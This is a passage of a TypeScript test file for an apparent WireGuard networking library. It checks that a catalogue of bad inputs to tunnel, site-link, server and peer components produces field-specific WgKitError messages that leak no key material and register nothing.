    console.log(`      bad-input catalogue: ${CATALOGUE.length} cases across 4 components`);
    const byClass = HARDENING.reduce<Record<string, number>>((m, x) => ({ ...m, [x.cls!]: (m[x.cls!] ?? 0) + 1 }), {});
    console.log(`      issue 13 classes: ${Object.entries(byClass).map(([k, n]) => `${k}: ${n}`).join(", ")} (class 2, secrecy, is in ClientTunnelSiteLink.test.ts)`);
  });
  it(`has at least 60 cases (${CATALOGUE.length})`, () => assert.ok(CATALOGUE.length >= 60));
  for (const c of CATALOGUE) {
    it(`${c.c}: ${c.what} → ${c.field} [${c.rule}]`, () => {
      const m = useMocks(new RecordingMocks());
      const made = c.lazy?.();
      assert.throws(() => construct(c, made), (e: unknown) => {
        assert.ok(e instanceof WgKitError, `not a WgKitError: ${e}`);
        if ((c.field as unknown) instanceof RegExp) assert.match(e.field, c.field as unknown as RegExp, e.message);
        else assert.equal(e.field, c.field, e.message);
        if (typeof c.rule === "string") assert.equal(e.rule, c.rule, e.message);
        else assert.match(e.rule, c.rule, e.message);
        // ClientTunnel and SiteLink name their instance first (ComponentError); WireGuardServer/Peer
        // gain the same prefix when they apply it.
        if (c.c === "tunnel" || c.c === "link") {
          assert.ok(e instanceof ComponentError && e.component === componentLabel(c.c === "tunnel" ? "ClientTunnel" : "SiteLink", nameOf(c, made)), e.message);
        }
        assert.ok(!e.message.includes("Calling [toString]"), `no Output text in the message: ${e.message}`);
        const bare = e instanceof ComponentError ? e.message.slice(e.component.length + 2) : e.message;
        assert.ok(bare.startsWith(`${e.field}: `), "the message names the field");
        for (const secret of c.notIn ?? []) assert.ok(!e.message.includes(secret), `the message shows no part of the key: ${e.message}`);
        return true;
      });
      assert.equal(m.registrations.length, 0, "nothing was registered");
    });
  }
});
